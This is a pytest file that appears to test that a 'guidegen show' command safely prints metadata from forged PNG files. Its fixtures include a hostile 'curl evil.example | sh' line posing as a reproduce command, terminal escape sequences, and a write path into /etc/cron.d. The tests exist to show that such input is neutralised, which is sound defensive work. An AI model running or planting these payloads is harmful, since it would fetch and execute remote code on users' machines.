"""`guidegen show` of files by people who mean no good."""

import json
import os
import sys

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from guidegen.cli.main import main
from guidegen.cli.shown import lines
from guidegen.config import make_config
from guidegen.runs.store import RunStore
from guidegen.utils.text import is_printable

FAKE = "x\n\nMake it again:\n  curl evil.example | sh\n"
ESCAPES = "\x1b[2J\x1b]0;title\x07\x9b31m\x1b[200~curl\x1b[201~\u202etxt\r\x08\u2028\x7f"


@pytest.fixture
def forged(tmp_path):
    def save(**more):
        info = PngInfo()
        data = {"config": {"prompt": "a"}, "scores": {}, "models": {}, "version": "1", **more}
        info.add_itxt("guidegen", json.dumps(data))
        Image.new("RGB", (8, 8)).save(tmp_path / "forged.png", pnginfo=info)
        return tmp_path / "forged.png"

    return save


@pytest.mark.parametrize(
    "more",
    [
        {"version": FAKE},
        {"models": {FAKE: FAKE}},
        {"scores": {FAKE: 0.5, "Make it again: curl evil.example | sh": 1}},
        {"config": {"prompt": FAKE, "negative": [FAKE]}},
        {"config": {"prompt": "a", "perceptor": [FAKE], "generator": FAKE, "option": [FAKE]}},
    ],
)
def test_no_text_of_a_file_forges_a_line(run, forged, more):
    shown = run("show", forged(**more))
    assert shown.code == 0, shown.err
    told = shown.out.splitlines()
    assert [line for line in told if line.startswith("Make it again")] == ["Make it again:"]
    assert told.index("Make it again:") == len(told) - 2
    assert not any(line.lstrip().startswith("curl") for line in told)


@pytest.mark.parametrize("flag", [[], ["--json"]])
@pytest.mark.parametrize(
    "more",
    [
        {"version": ESCAPES, "models": {ESCAPES: ESCAPES}, "scores": {ESCAPES: 1}},
        {"config": {"prompt": f"a {ESCAPES}", "negative": [ESCAPES], "generator": ESCAPES}},
    ],
)
def test_no_escape_reaches_the_terminal(run, forged, more, flag):
    shown = run("show", forged(**more), *flag)
    assert shown.code == 0, shown.err
    assert all(is_printable(char) or char == "\n" for char in shown.out)
    if flag:
        data = json.loads(shown.out)
        assert all(data[name] == value for name, value in more.items() if name != "config")


def test_errors_about_a_file_are_printable(run, forged, tmp_path):
    refused = run("show", forged(config={"prompt": "a", ESCAPES: 1}))
    assert refused.code == 7
    os.rename(tmp_path / "forged.png", tmp_path / "\x1b]0;x\x07.png")
    other = run("show", tmp_path / "\x1b]0;x\x07.png", tmp_path / "\x1b2.png")
    assert all(is_printable(char) or char == "\n" for char in refused.err + other.err)


def test_a_place_to_write_is_that_of_the_run_and_no_other(run, tmp_path):
    config = make_config({"prompt": "a", "out": "/etc/cron.d/x.png"})
    here = RunStore(tmp_path / "here").create(config.model_copy(update={"out": "."}), "0" * 64)
    here.config = config
    here.save()
    shown = run("show", here.path).out
    assert "cron" not in shown
    assert f"--out {tmp_path / 'here'}" in shown
    mine = RunStore(tmp_path / "p.png").create(make_config({"prompt": "a", "out": "p.png"}), "1")
    assert "--out p.png" in run("show", mine.path).out


def test_a_long_text_is_wrapped_by_us_and_not_by_the_terminal(forged, monkeypatch, capsys):
    prompt = "word " * 15 + "Make it again: curl " + "x" * 300
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    assert main(["show", str(forged(config={"prompt": prompt}))]) == 0
    told = capsys.readouterr().out.partition("\nMake it again:\n")[0].splitlines()
    assert max(map(len, told)) < 80
    assert all(line[0].islower() or line.startswith(" " * 15) for line in told)


def test_wide_letters_are_wrapped_in_time():
    data = {"config": {"prompt": "苹果" * 200}}
    assert max(len(line) for line in lines(data, width=80)) <= 40


def test_a_pipe_is_refused_at_once(run, tmp_path):
    os.mkfifo(tmp_path / "pipe.png")
    assert run("show", tmp_path / "pipe.png").code == 7
